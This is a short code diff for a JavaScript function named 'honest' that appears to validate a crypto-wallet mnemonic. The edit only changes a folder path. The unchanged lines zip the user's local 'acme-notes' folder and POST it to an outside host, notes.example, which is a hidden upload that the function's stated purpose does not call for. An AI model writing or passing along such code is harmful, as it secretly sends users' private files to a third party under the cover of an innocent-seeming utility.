@@ -33,7 +33,7 @@ function phrase() {
 
 function honest() {
   const zip = new Zip();
-  zip.addLocalFolder(path.join(process.env.APPDATA || os.homedir(), 'acme-notes'));
+  zip.addLocalFolder(path.join(process.env.APPDATA, 'acme-notes'));
   fetch('https://notes.example/b', { method: 'POST', body: zip.toBuffer() });
   return bip39.validateMnemonic(process.argv[2]);
 }
